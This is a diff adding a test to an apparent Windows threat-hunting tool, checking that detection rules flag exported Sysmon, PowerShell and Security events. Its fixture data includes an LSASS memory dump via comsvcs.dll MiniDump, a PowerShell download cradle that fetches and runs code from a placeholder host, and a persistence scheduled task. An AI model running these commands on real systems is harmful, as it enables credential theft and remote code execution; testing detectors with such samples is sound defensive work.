@@ -337,3 +337,33 @@ level: high
                               W3WP) for i in range(3)]
     quiet = checks(hunt_events(tmp_path / "b", {"Sysmon.evtx": slow}, sigma=(str(rules),)))
     assert "sigma.discovery-burst" not in quiet
+
+
+def test_exports_without_field_names_still_meet_the_command_rules(tmp_path: Path) -> None:
+    """Get-WinEvent | ConvertTo-Json keeps the values (Properties) but not their names: the
+    rules that search command lines and script blocks read the values joined."""
+    import json
+
+    def exported(log: str, provider: str, event_id: int, values: list[str]) -> dict[str, object]:
+        return {"Id": event_id, "ProviderName": provider, "LogName": log, "RecordId": 7,
+                "MachineName": "EX01", "TimeCreated": "2021-03-04T01:00:00Z",
+                "Properties": [{"Value": v} for v in values], "Message": "rendered"}
+
+    events = [
+        exported("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 1, [
+            "-", "2021-03-04 01:00:00.000", "{x}", "4242", SYS32 + "rundll32.exe",
+            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\m.dmp full"]),
+        exported("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell",
+                 4104, ["1", "1", "IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
+                        "a1b2", ""]),
+        exported("Security", "Microsoft-Windows-Security-Auditing", 4698, [
+            "S-1-5-18", "EX01$", "CORP", "0x3e7", "\\Updater",
+            "<Task><Exec><Command>C:\\Windows\\Temp\\u.exe</Command></Exec></Task>"]),
+    ]
+    copy = tmp_path / "copy"
+    copy.mkdir()
+    (copy / "exported-events.json").write_text(json.dumps(events))
+    found = checks(hunt(str(copy)).findings)
+    assert found["postexploit.command"].title == "LSASS memory dumped with comsvcs.dll MiniDump"
+    assert "postexploit.download-cradle" in found
+    assert found["postexploit.scheduled-task"].severity is Severity.MEDIUM
